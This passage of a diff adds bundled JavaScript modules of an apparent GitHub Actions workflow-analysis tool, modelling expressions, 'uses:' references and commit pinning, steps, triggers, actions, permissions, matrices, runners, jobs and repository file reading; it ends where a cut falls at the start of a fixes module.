+/** A `${{ }}` in a scalar, or a bare `if:`. Offsets `start` and `end` are offsets into the scalar's value. */
+class EmbeddedExpression {
+    scalar;
+    start;
+    end;
+    bodyStart;
+    body;
+    isTerminated;
+    #parsed;
+    constructor(scalar, start, end, bodyStart, body, 
+    /** Its closing `}}` is there. */
+    isTerminated) {
+        this.scalar = scalar;
+        this.start = start;
+        this.end = end;
+        this.bodyStart = bodyStart;
+        this.body = body;
+        this.isTerminated = isTerminated;
+    }
+    get file() {
+        return this.scalar.file;
+    }
+    /** Undefined when it can't be parsed; the nodes' offsets are offsets into the scalar's value. */
+    get expression() {
+        this.#parsed ??= parseExpression(this.body, this.bodyStart);
+        return this.#parsed.ok ? this.#parsed.expression : undefined;
+    }
+    /** The text with its fence. */
+    get text() {
+        return this.scalar.value.slice(this.start, this.end);
+    }
+    /** The file's range of a node of this expression, or of the whole. */
+    spanOf(node = this) {
+        return this.scalar.spanOf(node.start, node.end);
+    }
+}
+const NONE = [];
+const cache = new WeakMap();
+/** Every `${{ }}` of a scalar. */
+function expressionsIn(scalar) {
+    if (!scalar.value.includes("${{"))
+        return NONE;
+    let found = cache.get(scalar);
+    if (!found) {
+        found = findExpressions(scalar.value).map((e) => new EmbeddedExpression(scalar, e.start, e.end, e.bodyStart, e.body, e.terminated));
+        cache.set(scalar, found);
+    }
+    return found;
+}
+/** Is the whole value one `${{ }}`? Then that. */
+function wholeExpression(node) {
+    if (node?.kind !== "scalar")
+        return undefined;
+    const [first] = expressionsIn(node);
+    if (!first)
+        return undefined;
+    const value = node.value;
+    return value.slice(0, first.start).trim() === "" && value.slice(first.end).trim() === "" ? first : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/image.js
+const DIGEST = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[0-9a-f]{32,}$/i;
+/**
+ * Splits an image reference. A `:` before the last `/` belongs to a registry's port.
+ *
+ * @see OCI distribution specification 1.1, "Pulling manifests"; distribution/reference grammar
+ */
+function parseImage(text) {
+    const trimmed = text.trim();
+    const at = trimmed.indexOf("@");
+    const before = at === -1 ? trimmed : trimmed.slice(0, at);
+    const digest = at === -1 ? null : trimmed.slice(at + 1);
+    const colon = before.indexOf(":", before.lastIndexOf("/") + 1);
+    return {
+        text: trimmed,
+        name: colon === -1 ? before : before.slice(0, colon),
+        tag: colon === -1 ? null : before.slice(colon + 1),
+        digest: digest !== null && DIGEST.test(digest) ? digest : null,
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/uses.js
+
+const COMMIT = /^[0-9a-f]{40}$/i;
+/** A `uses:` of a step or of a job that calls a reusable workflow. */
+class Uses {
+    scalar;
+    #target;
+    constructor(scalar) {
+        this.scalar = scalar;
+    }
+    get text() {
+        return this.scalar.value;
+    }
+    get target() {
+        this.#target ??= parseUses(this.text);
+        return this.#target;
+    }
+    /** Is it that action? `name` is `owner/repo[/path]` in lower case: owner, repository and path have no case on GitHub. */
+    is(name) {
+        const target = this.target;
+        return target.kind === "repository" && nameOf(target) === name;
+    }
+}
+/** `owner/repo[/path]` in lower case. */
+function nameOf(target) {
+    const path = target.path === "" ? "" : `/${target.path}`;
+    return `${target.owner}/${target.repo}${path}`.toLowerCase();
+}
+/** A full 40-digit commit SHA: the only ref that can't be moved. */
+function isCommit(ref) {
+    return COMMIT.test(ref);
+}
+/**
+ * Reads a `uses:` value.
+ *
+ * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].uses` and `jobs.<job_id>.uses`
+ */
+function parseUses(value) {
+    const text = value.trim();
+    if (text.includes("${{"))
+        return { kind: "dynamic" };
+    if (text.startsWith("docker://"))
+        return { kind: "docker", image: parseImage(text.slice("docker://".length)) };
+    if (text.startsWith("$/"))
+        return { kind: "local", base: "repository", path: normalizePath(text.slice(2)) };
+    if (text === "." || text.startsWith("./") || text.startsWith("../") || text.startsWith(".\\")) {
+        return { kind: "local", base: "workspace", path: normalizePath(text) };
+    }
+    return parseRepositoryTarget(text, value.indexOf(text));
+}
+function parseRepositoryTarget(text, base) {
+    const at = text.indexOf("@");
+    if (at === -1)
+        return { kind: "malformed" };
+    const [owner, repo, ...path] = text.slice(0, at).split("/");
+    const ref = text.slice(at + 1);
+    if (!owner || !repo || ref === "")
+        return { kind: "malformed" };
+    const refSpan = { start: base + at + 1, end: base + text.length };
+    return { kind: "repository", owner, repo, path: path.filter((part) => part !== "").join("/"), ref, refSpan };
+}
+/** Removes `.` and resolves `..` where it can; `\` counts as `/`. */
+function normalizePath(path) {
+    const parts = [];
+    for (const part of path.replaceAll("\\", "/").split("/")) {
+        if (part === "" || part === ".")
+            continue;
+        if (part === ".." && parts.length > 0 && parts.at(-1) !== "..")
+            parts.pop();
+        else
+            parts.push(part);
+    }
+    return parts.join("/");
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/step.js
+
+
+
+
+/** A `run:` with the shell that reads it. */
+class RunScript {
+    step;
+    scalar;
+    #script;
+    constructor(step, scalar) {
+        this.step = step;
+        this.scalar = scalar;
+    }
+    get text() {
+        return this.scalar.value;
+    }
+    get shell() {
+        return this.step.shell.value;
+    }
+    /** Parsed when first asked for. */
+    get script() {
+        this.#script ??= parseScript(this.text, this.shell, expressionsIn(this.scalar));
+        return this.#script;
+    }
+}
+/** One step of a job or of a composite action. */
+class Step {
+    owner;
+    map;
+    index;
+    uses;
+    run;
+    env;
+    constructor(owner, map, 
+    /** Its place among its owner's steps, from 0; steps of a `parallel:` block count one by one. */
+    index) {
+        this.owner = owner;
+        this.map = map;
+        this.index = index;
+        const uses = map.scalar("uses");
+        const run = map.scalar("run");
+        this.uses = uses ? new Uses(uses) : null;
+        this.run = run ? new RunScript(this, run) : null;
+        this.env = envBlock("step", map);
+    }
+    get file() {
+        return this.map.file;
+    }
+    get id() {
+        return this.map.text("id");
+    }
+    get condition() {
+        return this.map.scalar("if");
+    }
+    /** Inputs of an action, by name in any case. */
+    input(name) {
+        const wanted = name.toLowerCase();
+        return this.with?.entries.find((entry) => entry.key.value.toLowerCase() === wanted);
+    }
+    get with() {
+        return this.map.map("with");
+    }
+    /** `with:` is one expression, so its inputs can't be known. */
+    get hasDynamicInputs() {
+        return this.map.scalar("with")?.isNull === false;
+    }
+    /** The variable as the step sees it: its own `env` before the job's and the workflow's. */
+    variable(name) {
+        return this.env?.get(name) ?? this.owner.variable(name);
+    }
+    /**
+     * The shell of this step's `run:`.
+     *
+     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].shell` and `defaults.run`
+     */
+    get shell() {
+        const own = this.map.scalar("shell");
+        if (own && !own.isNull)
+            return { value: shellOf(own.value), from: "step", node: own };
+        return this.owner.defaultShell;
+    }
+    get workingDirectory() {
+        const own = this.map.scalar("working-directory");
+        if (own && !own.isNull)
+            return { value: own.value, from: "step", node: own };
+        return this.owner.defaultWorkingDirectory;
+    }
+}
+/** The steps of a `steps:` value; those of `parallel:` blocks are among them. */
+function stepsOf(owner, node) {
+    const steps = [];
+    collectSteps(owner, node, steps);
+    return steps;
+}
+function collectSteps(owner, node, steps) {
+    if (node?.kind !== "seq")
+        return;
+    for (const { value } of node.items) {
+        if (value.kind !== "map")
+            continue;
+        steps.push(new Step(owner, value, steps.length));
+        collectSteps(owner, value.get("parallel"), steps);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/trigger.js
+/** One event of `on:`. */
+class Trigger {
+    key;
+    node;
+    constructor(
+    /** The event's name where it stands: a key, an item or the one scalar. */
+    key, 
+    /** Its settings, when it has any. */
+    node) {
+        this.key = key;
+        this.node = node;
+    }
+    get event() {
+        return this.key.value;
+    }
+    get settings() {
+        return this.node?.kind === "map" ? this.node : undefined;
+    }
+    /** Activity types; undefined when the event's default ones apply. */
+    get types() {
+        return this.list("types");
+    }
+    /** A filter such as `branches`, `branches-ignore`, `tags`, `paths`, `workflows`. */
+    list(filter) {
+        const node = this.settings?.get(filter);
+        return node ? scalarsOf(node) : undefined;
+    }
+    get inputs() {
+        return inputsOf(this.settings?.get("inputs"));
+    }
+    /** Names of the secrets that a `workflow_call` declares. */
+    get secrets() {
+        return this.settings?.map("secrets")?.entries ?? [];
+    }
+    /** `cron` of each entry of a `schedule`. */
+    get schedules() {
+        if (this.node?.kind !== "seq")
+            return [];
+        return this.node.items.flatMap(({ value }) => (value.kind === "map" ? (value.scalar("cron") ?? []) : []));
+    }
+}
+/** The events of an `on:` value: a name, a list of names, or a mapping. */
+function triggersOf(node) {
+    if (!node)
+        return [];
+    if (node.kind === "scalar")
+        return node.isNull ? [] : [new Trigger(node, null)];
+    if (node.kind === "map")
+        return node.entries.map((entry) => new Trigger(entry.key, entry.value));
+    return scalarsOf(node).map((item) => new Trigger(item, null));
+}
+const INPUT_TYPES = new Set(["string", "boolean", "number", "choice", "environment"]);
+function inputsOf(node) {
+    if (node?.kind !== "map")
+        return [];
+    return node.entries.map((entry) => {
+        const map = entry.value.kind === "map" ? entry.value : undefined;
+        const type = map?.text("type") ?? "string";
+        return {
+            name: entry.key.value,
+            entry,
+            type: INPUT_TYPES.has(type) ? type : "string",
+            options: scalarsOf(map?.get("options")),
+            isRequired: map?.scalar("required")?.typed === true,
+            default: map?.scalar("default") ?? null,
+        };
+    });
+}
+function scalarsOf(node) {
+    if (!node)
+        return [];
+    if (node.kind === "scalar")
+        return node.isNull ? [] : [node];
+    if (node.kind === "map")
+        return [];
+    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/action.js
+
+
+/**
+ * What every `action.yml` has.
+ *
+ * @see Metadata syntax for GitHub Actions
+ */
+class BaseAction {
+    document;
+    root;
+    runs;
+    constructor(document, root, 
+    /** Empty when the file has none. */
+    runs) {
+        this.document = document;
+        this.root = root;
+        this.runs = runs;
+    }
+    get file() {
+        return this.document.file;
+    }
+    get path() {
+        return this.file.path;
+    }
+    /** The folder it stands in, relative to the repository; empty at the root. */
+    get folder() {
+        const slash = this.path.lastIndexOf("/");
+        return slash === -1 ? "" : this.path.slice(0, slash);
+    }
+    get inputs() {
+        return inputsOf(this.root.get("inputs"));
+    }
+    get outputs() {
+        return this.root.map("outputs")?.entries ?? [];
+    }
+    /** `runs.using`. */
+    get using() {
+        return this.runs?.scalar("using");
+    }
+}
+/** `using: composite`: steps of its own. */
+class CompositeAction extends BaseAction {
+    kind = "composite";
+    #steps;
+    get steps() {
+        this.#steps ??= stepsOf(this, this.runs?.get("steps"));
+        return this.#steps;
+    }
+    /** A composite action has no `env:` above its steps; what its caller sets can't be seen here. */
+    variable(_name) {
+        return undefined;
+    }
+    /** Each `run:` of a composite action must name its shell; where one doesn't, bash is the likeliest. */
+    get defaultShell() {
+        return { value: "bash", from: "unknown", node: null };
+    }
+    get defaultWorkingDirectory() {
+        return { value: ".", from: "default", node: null };
+    }
+}
+/** `using: node24` and the like. */
+class JavaScriptAction extends BaseAction {
+    kind = "javascript";
+    /** The files that it runs: `pre`, `main`, `post`. */
+    get entryPoints() {
+        return ["pre", "main", "post"].flatMap((key) => this.runs?.scalar(key) ?? []);
+    }
+}
+/** `using: docker`. */
+class DockerAction extends BaseAction {
+    kind = "docker";
+    /** `Dockerfile`, a path to one, or `docker://image`. */
+    get image() {
+        return this.runs?.scalar("image");
+    }
+}
+/** `runs.using` is missing, or something else. */
+class UnknownAction extends BaseAction {
+    kind = "unknown";
+}
+function actionOf(document, root) {
+    const runs = root.map("runs");
+    const using = runs?.text("using")?.toLowerCase() ?? "";
+    if (using === "composite")
+        return new CompositeAction(document, root, runs);
+    if (using === "docker")
+        return new DockerAction(document, root, runs);
+    if (using.startsWith("node"))
+        return new JavaScriptAction(document, root, runs);
+    return new UnknownAction(document, root, runs);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/dependabot.js
+
+/**
+ * `.github/dependabot.yml`.
+ *
+ * @see Dependabot options reference
+ */
+class Dependabot {
+    document;
+    root;
+    kind = "dependabot";
+    constructor(document, root) {
+        this.document = document;
+        this.root = root;
+    }
+    get file() {
+        return this.document.file;
+    }
+    get updates() {
+        return (this.root.seq("updates")?.items ?? []).flatMap(({ value }) => value.kind === "map" ? [updateOf(value)] : []);
+    }
+}
+function updateOf(map) {
+    return {
+        map,
+        ecosystem: map.scalar("package-ecosystem"),
+        directories: [...scalarsOf(map.get("directory")), ...scalarsOf(map.get("directories"))],
+        cooldown: map.map("cooldown"),
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/matrix.js
+
+/** `strategy.matrix` of a job. */
+class Matrix {
+    entry;
+    constructor(entry) {
+        this.entry = entry;
+    }
+    get map() {
+        return this.entry.value.kind === "map" ? this.entry.value : undefined;
+    }
+    /** The whole matrix is an expression. */
+    get isDynamic() {
+        return this.entry.value.kind === "scalar";
+    }
+    /**
+     * The values of `matrix.<path>`, such as `["os"]` or `["target", "image"]`; `*` stands for any key or item.
+     *
+     * Exclusions count only when they drop a value altogether; a value that some combination keeps is kept.
+     *
+     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.strategy.matrix`
+     */
+    valuesOf(path) {
+        const { map } = this;
+        const [head, ...rest] = path;
+        if (!map || head === undefined)
+            return { values: [], isOpen: true };
+        const found = [];
+        const state = { isOpen: false };
+        const dropped = this.droppedValues(head);
+        for (const entry of map.entries) {
+            const key = entry.key.value;
+            if (key === "exclude")
+                continue;
+            if (key === "include")
+                collectFromInclude(entry.value, path, found, state);
+            else if (head === "*" || key.toLowerCase() === head)
+                collectFromVector(entry.value, rest, dropped, found, state);
+        }
+        return { values: found, isOpen: state.isOpen };
+    }
+    /** Values of a vector that an exclusion of that one key removes from every combination. */
+    droppedValues(head) {
+        const dropped = new Set();
+        for (const item of this.map?.seq("exclude")?.items ?? []) {
+            if (item.value.kind !== "map" || item.value.entries.length !== 1)
+                continue;
+            const [only] = item.value.entries;
+            if (only.key.value.toLowerCase() === head && only.value.kind === "scalar")
+                dropped.add(only.value.value);
+        }
+        return dropped;
+    }
+}
+function collectFromInclude(node, path, found, state) {
+    if (node.kind !== "seq")
+        state.isOpen = true;
+    else
+        for (const item of node.items)
+            descend(item.value, path, found, state);
+}
+function collectFromVector(node, rest, dropped, found, state) {
+    if (node.kind !== "seq") {
+        state.isOpen = true;
+        return;
+    }
+    const own = [];
+    for (const item of node.items)
+        descend(item.value, rest, own, state);
+    for (const value of own)
+        if (!dropped.has(value.value))
+            found.push(value);
+}
+function descend(node, path, found, state) {
+    if (node.kind === "scalar") {
+        if (expressionsIn(node).length > 0)
+            state.isOpen = true;
+        if (path.length === 0)
+            found.push(node);
+        return;
+    }
+    const [head, ...rest] = path;
+    if (head === undefined) {
+        // The whole structure is expanded as text: any scalar in it.
+        for (const child of matrix_childrenOf(node))
+            descend(child, path, found, state);
+    }
+    else if (node.kind === "map") {
+        for (const entry of node.entries) {
+            if (head === "*" || entry.key.value.toLowerCase() === head)
+                descend(entry.value, rest, found, state);
+        }
+    }
+    else if (head === "*") {
+        for (const item of node.items)
+            descend(item.value, rest, found, state);
+    }
+}
+function matrix_childrenOf(node) {
+    if (node.kind === "scalar")
+        return [];
+    return node.kind === "map" ? node.entries.map((entry) => entry.value) : node.items.map((item) => item.value);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/permissions.js
+/**
+ * The scopes of `GITHUB_TOKEN`.
+ *
+ * @see Workflow syntax for GitHub Actions, `permissions`
+ */
+const PERMISSION_SCOPES = [
+    "actions",
+    "artifact-metadata",
+    "attestations",
+    "checks",
+    "code-quality",
+    "contents",
+    "deployments",
+    "discussions",
+    "id-token",
+    "issues",
+    "models",
+    "packages",
+    "pages",
+    "pull-requests",
+    "repository-projects",
+    "security-events",
+    "statuses",
+];
+/** A `permissions:` block. Once it is there, every scope that it doesn't name is `none`. */
+class Permissions {
+    entry;
+    kind;
+    grants;
+    constructor(entry) {
+        this.entry = entry;
+        this.kind = permissions_kindOf(entry.value);
+        this.grants = this.kind === "scopes" ? grantsOf(entry.value) : [];
+    }
+    level(scope) {
+        if (this.kind === "write-all")
+            return scope === "models" ? "read" : "write";
+        // `read-all` gives no identity: `id-token` has no read level.
+        if (this.kind === "read-all")
+            return scope === "id-token" ? "none" : "read";
+        return this.grants.findLast((grant) => grant.scope === scope)?.level ?? "none";
+    }
+    /** Scopes that may write, `id-token` among them. */
+    get writes() {
+        if (this.kind === "write-all")
+            return PERMISSION_SCOPES.filter((scope) => this.level(scope) === "write");
+        return this.grants.filter((grant) => grant.level === "write").map((grant) => grant.scope);
+    }
+}
+function permissions_kindOf(node) {
+    if (node.kind === "map")
+        return "scopes";
+    if (node.kind === "seq")
+        return "unreadable";
+    if (node.value === "read-all" || node.value === "write-all")
+        return node.value;
+    // `permissions:` with nothing behind it is an empty block to GitHub.
+    return node.isNull ? "scopes" : "unreadable";
+}
+function grantsOf(node) {
+    if (node.kind !== "map")
+        return [];
+    return node.entries.map((entry) => ({ scope: entry.key.value, level: permissions_levelOf(entry.value), entry }));
+}
+function permissions_levelOf(node) {
+    const text = node.kind === "scalar" ? node.value : "";
+    return text === "read" || text === "write" ? text : "none";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/runner.js
+
+
+/** `runs-on` of a job: labels, a group with labels, or expressions that matrix values fill. */
+class Runner {
+    entry;
+    matrix;
+    #labels;
+    constructor(entry, matrix) {
+        this.entry = entry;
+        this.matrix = matrix;
+    }
+    /** The runner group that it asks for. */
+    get group() {
+        return this.entry.value.kind === "map" ? this.entry.value.scalar("group") : undefined;
+    }
+    get labels() {
+        return this.resolve().known;
+    }
+    /** Part of it can't be known from the file. */
+    get isOpen() {
+        return this.resolve().isOpen;
+    }
+    /** The operating systems that its labels may mean; empty when none can be told. */
+    get systems() {
+        const systems = new Set();
+        for (const label of this.labels) {
+            const system = systemOf(label.text);
+            if (system)
+                systems.add(system);
+        }
+        return [...systems];
+    }
+    resolve() {
+        this.#labels ??= resolveLabels(this.entry.value, this.matrix);
+        return this.#labels;
+    }
+}
+function resolveLabels(node, matrix) {
+    const known = [];
+    let isOpen = false;
+    for (const scalar of labelScalars(node)) {
+        if (expressionsIn(scalar).length === 0) {
+            known.push({ text: scalar.value, node: scalar, fromMatrix: false });
+            continue;
+        }
+        const values = matrixValues(scalar, matrix);
+        if (!values || values.isOpen)
+            isOpen = true;
+        for (const value of values?.values ?? [])
+            known.push({ text: value.value, node: value, fromMatrix: true });
+    }
+    return { known, isOpen };
+}
+function matrixValues(scalar, matrix) {
+    const whole = wholeExpression(scalar)?.expression;
+    const path = whole && contextPath(whole);
+    if (!matrix || !path || path.segments[0] !== "matrix")
+        return undefined;
+    return matrix.valuesOf(path.segments.slice(1));
+}
+function labelScalars(node) {
+    if (!node)
+        return [];
+    if (node.kind === "scalar")
+        return node.isNull ? [] : [node];
+    if (node.kind === "map")
+        return labelScalars(node.get("labels"));
+    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
+}
+/** Of GitHub's images and of the labels that self-hosted runners get by themselves. */
+function systemOf(label) {
+    const text = label.toLowerCase();
+    if (text === "linux" || text.startsWith("ubuntu"))
+        return "linux";
+    if (text === "macos" || text.startsWith("macos-") || text.startsWith("mac"))
+        return "macos";
+    if (text === "windows" || text.startsWith("windows-") || text.startsWith("win"))
+        return "windows";
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/job.js
+
+
+
+
+
+
+
+
+/** What both kinds of jobs have. */
+class BaseJob {
+    workflow;
+    key;
+    map;
+    permissions;
+    matrix;
+    constructor(workflow, 
+    /** The job's id. */
+    key, map) {
+        this.workflow = workflow;
+        this.key = key;
+        this.map = map;
+        const permissions = map.entry("permissions");
+        this.permissions = permissions ? new Permissions(permissions) : null;
+        const matrix = map.map("strategy")?.entry("matrix");
+        this.matrix = matrix ? new Matrix(matrix) : null;
+    }
+    get id() {
+        return this.key.value;
+    }
+    get file() {
+        return this.map.file;
+    }
+    get condition() {
+        return this.map.scalar("if");
+    }
+    get needs() {
+        return scalarsOf(this.map.get("needs"));
+    }
+    get outputs() {
+        return this.map.map("outputs")?.entries ?? [];
+    }
+    /**
+     * What the job's token may do.
+     *
+     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.permissions`: a job's block replaces the workflow's
+     */
+    get effectivePermissions() {
+        if (this.permissions)
+            return { from: "job", permissions: this.permissions };
+        const { permissions } = this.workflow;
+        return permissions ? { from: "workflow", permissions } : { from: "default", permissions: null };
+    }
+}
+/** A job that runs steps. */
+class NormalJob extends BaseJob {
+    kind = "normal";
+    env = envBlock("job", this.map);
+    #steps;
+    #runner;
+    #containers;
+    get steps() {
+        this.#steps ??= stepsOf(this, this.map.get("steps"));
+        return this.#steps;
+    }
+    get runner() {
+        if (this.#runner === undefined) {
+            const entry = this.map.entry("runs-on");
+            this.#runner = entry ? new Runner(entry, this.matrix) : null;
+        }
+        return this.#runner;
+    }
+    /** The container that the steps run in, and the services beside it. */
+    get containers() {
+        this.#containers ??= containersOf(this.map);
+        return this.#containers;
+    }
+    get environment() {
+        return this.map.get("environment");
+    }
+    variable(name) {
+        return this.env?.get(name) ?? this.workflow.env?.get(name);
+    }
+    get defaultShell() {
+        const own = runDefault(this.map, "shell");
+        if (own)
+            return { value: shellOf(own.value), from: "job", node: own };
+        const shared = runDefault(this.workflow.root, "shell");
+        if (shared)
+            return { value: shellOf(shared.value), from: "workflow", node: shared };
+        return this.runnerShell();
+    }
+    /** Without a `shell:` anywhere: `pwsh` on Windows, `bash` elsewhere, `sh` in a container. */
+    runnerShell() {
+        if (this.map.entry("container"))
+            return { value: "sh", from: "runner", node: null };
+        const runner = this.runner;
+        const systems = runner?.systems ?? [];
+        if (systems.length === 1 && systems[0] === "windows")
+            return { value: "pwsh", from: "runner", node: null };
+        // Mixed matrices: the script has to be read by bash at least.
+        const isKnown = systems.length > 0 && !systems.includes("windows") && runner?.isOpen === false;
+        return { value: "bash", from: isKnown ? "runner" : "unknown", node: null };
+    }
+    get defaultWorkingDirectory() {
+        const own = runDefault(this.map, "working-directory");
+        if (own)
+            return { value: own.value, from: "job", node: own };
+        const shared = runDefault(this.workflow.root, "working-directory");
+        if (shared)
+            return { value: shared.value, from: "workflow", node: shared };
+        return { value: ".", from: "default", node: null };
+    }
+}
+/** A job that calls a reusable workflow. */
+class ReusableJob extends BaseJob {
+    kind = "reusable";
+    uses;
+    constructor(workflow, key, map, uses) {
+        super(workflow, key, map);
+        this.uses = new Uses(uses);
+    }
+    get with() {
+        return this.map.map("with");
+    }
+    get secrets() {
+        return this.map.entry("secrets");
+    }
+    get inheritsSecrets() {
+        const node = this.secrets?.value;
+        return node?.kind === "scalar" && node.value === "inherit";
+    }
+}
+function runDefault(map, key) {
+    const node = map.map("defaults")?.map("run")?.scalar(key);
+    return node && !node.isNull ? node : undefined;
+}
+function containersOf(map) {
+    const uses = [];
+    const container = map.entry("container");
+    if (container)
+        uses.push(containerUse("container", "container", container));
+    for (const entry of map.map("services")?.entries ?? [])
+        uses.push(containerUse("service", entry.key.value, entry));
+    return uses;
+}
+function containerUse(kind, name, entry) {
+    const { value } = entry;
+    if (value.kind !== "map") {
+        const image = value.kind === "scalar" && !value.isNull ? value : null;
+        return { kind, name, entry, image, env: null, credentials: undefined };
+    }
+    const image = value.scalar("image") ?? null;
+    return { kind, name, entry, image, env: envBlock("container", value), credentials: value.map("credentials") };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/renovate.js
+/**
+ * Renovate's settings, from any of the places where it looks for them.
+ *
+ * @see Renovate documentation, "Configuration Location"
+ */
+class Renovate {
+    document;
+    root;
+    kind = "renovate";
+    constructor(document, root) {
+        this.document = document;
+        this.root = root;
+    }
+    get file() {
+        return this.document.file;
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/workflow.js
+
+
+
+
+/** A file of `.github/workflows`. */
+class Workflow {
+    document;
+    root;
+    kind = "workflow";
+    permissions;
+    env;
+    #triggers;
+    #jobs;
+    constructor(document, root) {
+        this.document = document;
+        this.root = root;
+        const permissions = root.entry("permissions");
+        this.permissions = permissions ? new Permissions(permissions) : null;
+        this.env = envBlock("workflow", root);
+    }
+    get file() {
+        return this.document.file;
+    }
+    get path() {
+        return this.file.path;
+    }
+    get name() {
+        return this.root.text("name");
+    }
+    /** `on:` with its key; YAML 1.2 reads `on` as a string. */
+    get on() {
+        return this.root.entry("on");
+    }
+    get triggers() {
+        this.#triggers ??= triggersOf(this.on?.value);
+        return this.#triggers;
+    }
+    trigger(event) {
+        return this.triggers.find((trigger) => trigger.event === event);
+    }
+    /** It runs only when another workflow calls it. */
+    get isReusableOnly() {
+        return this.triggers.length === 1 && this.triggers[0]?.event === "workflow_call";
+    }
+    get jobs() {
+        this.#jobs ??= jobsOf(this);
+        return this.#jobs;
+    }
+    job(id) {
+        return this.jobs.find((job) => job.id.toLowerCase() === id.toLowerCase());
+    }
+}
+function jobsOf(workflow) {
+    const jobs = [];
+    for (const { key, value } of workflow.root.map("jobs")?.entries ?? []) {
+        if (value.kind === "map")
+            jobs.push(jobOf(workflow, key, value));
+    }
+    return jobs;
+}
+function jobOf(workflow, key, map) {
+    const uses = map.scalar("uses");
+    return uses && !uses.isNull ? new ReusableJob(workflow, key, map, uses) : new NormalJob(workflow, key, map);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/repository.js
+
+
+
+
+
+
+/** The files of one repository, read and modelled. */
+class Repository {
+    workflows = [];
+    actions = [];
+    dependabot = [];
+    renovate = [];
+    unreadable = [];
+    /** Every file that was read. */
+    documents = [];
+    /** Everything that was found, whether it is read here or only looked up by name. */
+    files = [];
+    sources = new Map();
+    workflow(path) {
+        return this.workflows.find((workflow) => workflow.path === path);
+    }
+    /** The action whose `action.yml` stands in that folder. */
+    action(folder) {
+        return this.actions.find((action) => action.folder === folder);
+    }
+    /** The action or reusable workflow of this repository that a `./` or `$/` reference names. */
+    resolve(uses) {
+        const { target } = uses;
+        if (target.kind !== "local")
+            return undefined;
+        const path = normalizePath(target.path);
+        return this.workflow(path) ?? this.action(path);
+    }
+    /**
+     * The local reusable workflows and actions that a workflow or action reaches, itself first, each once: a cycle ends
+     * where it closes.
+     */
+    reachableFrom(start) {
+        const reached = new Set([start]);
+        for (const unit of reached) {
+            for (const uses of repository_usesOf(unit)) {
+                const target = this.resolve(uses);
+                if (target)
+                    reached.add(target);
+            }
+        }
+        return reached;
+    }
+}
+function repository_usesOf(unit) {
+    if (unit.kind === "composite")
+        return unit.steps.flatMap((step) => step.uses ?? []);
+    if (unit.kind !== "workflow")
+        return [];
+    return unit.jobs.flatMap((job) => job.kind === "reusable" ? [job.uses] : job.steps.flatMap((step) => step.uses ?? []));
+}
+/** Reads all of a repository; what can't be read is in `unreadable`. */
+async function readRepository(root, options = {}) {
+    const { isIgnored = () => false, edited, also } = options;
+    const repository = new Repository();
+    const { files, unreachable } = discover(root);
+    for (const { path, reason } of unreachable) {
+        repository.unreadable.push(unreadable(new lib/* SourceFile */.sC(path, ""), reason));
+    }
+    for (const found of files) {
+        if (isIgnored(found.path))
+            continue;
+        repository.files.push(found);
+        if (isModelled(found.kind))
+            await readInto(repository, (0,external_node_path_.join)(root, found.path), found.path, found.kind, edited);
+    }
+    if (also && !repository.sources.has(also) && !files.some(({ path, kind }) => path === also && isModelled(kind))) {
+        await readInto(repository, (0,external_node_path_.join)(root, also), also, null, edited);
+    }
+    return repository;
+}
+function isModelled(kind) {
+    return kind === "workflow" || kind === "action" || kind === "dependabot" || kind === "renovate";
+}
+async function readInto(repository, absolute, path, kind, edited) {
+    const text = edited?.get(path);
+    const result = text === undefined ? readSource(absolute, path) : { ok: true, file: new lib/* SourceFile */.sC(path, text) };
+    if (!result.ok) {
+        repository.unreadable.push(unreadable(new lib/* SourceFile */.sC(path, ""), result.reason));
+        return;
+    }
+    await addSource(repository, result.file, kind);
+}
+/** Models a text that has been read; `kind` null lets its content tell what it is. */
+async function addSource(repository, file, kind) {
+    repository.sources.set(file.path, file);
+    const document = kind === "renovate" ? (await Promise.all(/* import() */[__nccwpck_require__.e(162), __nccwpck_require__.e(169)]).then(__nccwpck_require__.bind(__nccwpck_require__, 7169))).parseJson5(file) : await (0,yaml/* parseYaml */.hN)(file);
+    repository.documents.push(document);
+    for (const problem of document.problems) {
+        repository.unreadable.push({ file, start: problem.start, end: problem.end, reason: problem.message });
+    }
+    addModel(repository, document, kind);
+}
+function addModel(repository, document, kind) {
+    const { root, file } = document;
+    if (root?.kind !== "map") {
+        if (document.problems.length > 0)
+            return;
+        const reason = root ? "a mapping is expected at the top" : "it holds nothing";
+        repository.unreadable.push({ file, start: root?.start ?? 0, end: root?.start ?? 0, reason });
+        return;
+    }
+    const what = kind ?? (root.entry("runs") ? "action" : root.entry("updates") ? "dependabot" : "workflow");
+    if (what === "action")
+        repository.actions.push(actionOf(document, root));
+    else if (what === "dependabot")
+        repository.dependabot.push(new Dependabot(document, root));
+    else if (what === "renovate")
+        repository.renovate.push(new Renovate(document, root));
+    else
+        repository.workflows.push(new Workflow(document, root));
+}
+function unreadable(file, reason) {
+    return { file, start: 0, end: 0, reason };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/index.js
+
+
+
+
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/edits.js
+/** Adds `key` to a mapping, after `after` or at its end. */
+function insertEntry(map, key, value, after) {
